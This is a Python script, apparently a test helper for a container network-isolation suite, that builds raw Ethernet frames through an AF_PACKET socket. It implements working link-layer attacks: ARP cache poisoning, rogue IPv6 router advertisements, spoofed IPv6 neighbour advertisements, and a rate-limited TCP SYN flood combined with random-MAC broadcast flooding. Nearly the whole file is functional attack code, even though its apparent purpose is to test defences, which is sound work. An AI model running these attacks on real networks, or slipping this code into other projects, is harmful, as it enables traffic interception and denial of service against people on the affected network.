#!/usr/bin/env python3
"""Hostile traffic from inside a test container, through a raw AF_PACKET socket.

  rawframes.py garp IFACE CLAIMED_IP COUNT
      ARP replies from IFACE's own MAC claiming CLAIMED_IP (cache poisoning).
  rawframes.py rogue-ra IFACE COUNT
      IPv6 router advertisements (router lifetime 1800 s, prefix 2001:db8:bad::/64) from IFACE's
      link-local address to all nodes: a rogue router.
  rawframes.py spoof-na IFACE CLAIMED_IP6 COUNT
      Unsolicited IPv6 neighbour advertisements (override) from IFACE's link-local address
      claiming CLAIMED_IP6 is at IFACE's MAC (neighbour cache poisoning).
  rawframes.py flood IFACE SRC_IP GW_MAC DST_IP DST_PORT SECS MAX_PPS
      Alternates broadcast frames from random source MACs with TCP SYNs from IFACE's MAC and
      SRC_IP to DST_IP:DST_PORT (random source ports), through the gateway GW_MAC. Bounded in
      time (SECS) and rate (MAX_PPS). Prints {"random_macs": N, "syns": M} at the end.
"""
import json
import random
import socket
import struct
import sys
import time


def csum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def mac_bytes(text: str) -> bytes:
    return bytes(int(x, 16) for x in text.split(":"))


def own_mac(iface: str) -> bytes:
    with open(f"/sys/class/net/{iface}/address") as f:
        return mac_bytes(f.read().strip())


def arp_reply(src_mac: bytes, claimed: str) -> bytes:
    ip = socket.inet_aton(claimed)
    arp = struct.pack("!HHBBH6s4s6s4s", 1, 0x0800, 6, 4, 2, src_mac, ip, b"\xff" * 6, ip)
    return b"\xff" * 6 + src_mac + b"\x08\x06" + arp


def syn(src_mac: bytes, gw_mac: bytes, src: str, dst: str, sport: int, dport: int) -> bytes:
    s, d = socket.inet_aton(src), socket.inet_aton(dst)
    seq = random.getrandbits(32)
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, 5 << 4, 0x02, 64240, 0, 0)
    pseudo = s + d + struct.pack("!BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", csum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), random.getrandbits(16), 0x4000, 64, 6, 0, s, d)
    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    return gw_mac + src_mac + b"\x08\x00" + ip + tcp


def link_local(mac: bytes) -> bytes:
    return b"\xfe\x80" + b"\0" * 6 + bytes([mac[0] ^ 2]) + mac[1:3] + b"\xff\xfe" + mac[3:]


def icmpv6_to_all_nodes(src_mac: bytes, message: bytes) -> bytes:
    src, dst = link_local(src_mac), socket.inet_pton(socket.AF_INET6, "ff02::1")
    pseudo = src + dst + struct.pack("!IxxxB", len(message), 58)
    message = message[:2] + struct.pack("!H", csum(pseudo + message)) + message[4:]
    ip = struct.pack("!IHBB", 0x60000000, len(message), 58, 255) + src + dst
    return b"\x33\x33\x00\x00\x00\x01" + src_mac + b"\x86\xdd" + ip + message


def rogue_ra(src_mac: bytes) -> bytes:
    prefix = socket.inet_pton(socket.AF_INET6, "2001:db8:bad::")
    ra = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 1800, 0, 0)
    ra += struct.pack("!BB6s", 1, 1, src_mac)
    ra += struct.pack("!BBBBIII16s", 3, 4, 64, 0xC0, 86400, 14400, 0, prefix)
    return icmpv6_to_all_nodes(src_mac, ra)


def spoofed_na(src_mac: bytes, claimed: str) -> bytes:
    target = socket.inet_pton(socket.AF_INET6, claimed)
    na = struct.pack("!BBHI16s", 136, 0, 0, 0x20 << 24, target) + struct.pack("!BB6s", 2, 1, src_mac)
    return icmpv6_to_all_nodes(src_mac, na)


def random_mac_frame() -> bytes:
    mac = bytes([random.getrandbits(8) & 0xFE | 0x02] + [random.getrandbits(8) for _ in range(5)])
    return b"\xff" * 6 + mac + b"\x88\xb5" + b"\0" * 46


def main() -> None:
    mode, iface = sys.argv[1], sys.argv[2]
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    sock.bind((iface, 0))
    me = own_mac(iface)
    if mode == "garp":
        claimed, count = sys.argv[3], int(sys.argv[4])
        for _ in range(count):
            sock.send(arp_reply(me, claimed))
            time.sleep(0.01)
        return
    if mode in ("rogue-ra", "spoof-na"):
        count = int(sys.argv[-1])
        frame = rogue_ra(me) if mode == "rogue-ra" else spoofed_na(me, sys.argv[3])
        for _ in range(count):
            sock.send(frame)
            time.sleep(0.01)
        return
    if mode == "flood":
        src, gw, dst = sys.argv[3], mac_bytes(sys.argv[4]), sys.argv[5]
        dport, secs, max_pps = int(sys.argv[6]), float(sys.argv[7]), int(sys.argv[8])
        deadline = time.monotonic() + secs
        macs = syns = 0
        sent_this_tick, tick = 0, time.monotonic()
        while time.monotonic() < deadline:
            try:
                sock.send(random_mac_frame())
                macs += 1
                sock.send(syn(me, gw, src, dst, random.randint(1024, 65535), dport))
                syns += 1
            except OSError:
                time.sleep(0.001)  # the socket's queue is full: the switch is behind
            sent_this_tick += 2
            if sent_this_tick >= max_pps // 100:
                rest = tick + 0.01 - time.monotonic()
                if rest > 0:
                    time.sleep(rest)
                tick, sent_this_tick = time.monotonic(), 0
        print(json.dumps({"random_macs": macs, "syns": syns}))
        return
    sys.exit(f"unknown mode {mode}")


if __name__ == "__main__":
    main()
